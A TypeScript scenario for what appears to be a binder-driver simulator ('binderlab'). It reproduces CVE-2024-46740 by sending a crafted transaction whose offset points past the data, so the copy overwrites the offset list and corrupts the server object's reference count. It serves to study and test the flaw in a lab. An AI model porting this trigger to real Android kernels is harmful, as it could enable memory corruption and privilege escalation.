/**
 * CVE-2024-46740. The driver copies the bytes between two objects of a message. The second object of this one is said to be beyond
 * the data, where the list of offsets is.
 *
 *     data      object 0 │ bytes that look like the server's object
 *     offsets   0 │ beyond the data
 *
 *     sound: the call fails, and the driver undoes object 0
 *     with --bug CVE-2024-46740: the copy replaces the first offset, and the driver undoes what looks like an object
 */
import { bc, type Machine } from 'binderlab';

const OBJECT = { ptr: 0xb1, cookie: 0xc0 };
const BINDER = 0x73622a85;
const OBJECT_SIZE = 24;
const DATA_SIZE = 2 * OBJECT_SIZE;

export default (machine: Machine) => {
  const join = (name: string) => {
    const process = machine.spawn(name);
    const fd = process.main.open();
    process.main.mmap(fd);
    return { process, thread: process.main, fd };
  };
  const server = join('server');
  const client = join('client');
  server.thread.becomeContextManager(server.fd, OBJECT);
  server.thread.writeRead(server.fd, [bc.enterLooper()], { readSize: 0 });
  const holders = (): number | undefined => machine.inspect.procs().flatMap(({ nodes }) => nodes)[0]?.localStrongRefs;
  // A oneway call that waits to be read holds the server's object.
  client.thread.writeRead(client.fd, [bc.transaction({ handle: 0, flags: 1 })]);

  const bytes = new DataView(new ArrayBuffer(DATA_SIZE + 8));
  bytes.setUint32(0, BINDER, true);
  bytes.setBigUint64(8, 0x77n, true);
  bytes.setUint32(OBJECT_SIZE, BINDER, true);
  bytes.setBigUint64(OBJECT_SIZE + 8, BigInt(OBJECT.ptr), true);
  bytes.setBigUint64(OBJECT_SIZE + 16, BigInt(OBJECT.cookie), true);
  bytes.setBigUint64(DATA_SIZE, BigInt(OBJECT_SIZE), true);
  const placed = client.process.place(new Uint8Array(bytes.buffer));
  const data = { address: placed.address, length: DATA_SIZE };
  const before = holders();
  const { words } = client.thread.writeRead(client.fd, [
    bc.transaction({ handle: 0, data, offsets: [0, DATA_SIZE + 8] }),
  ]);
  console.log(`the call: ${words.join(', ')}`);
  console.log(`calls and messages that hold the server's object, by its own count: ${before} before, ${holders()} now`);
  machine.check();
};
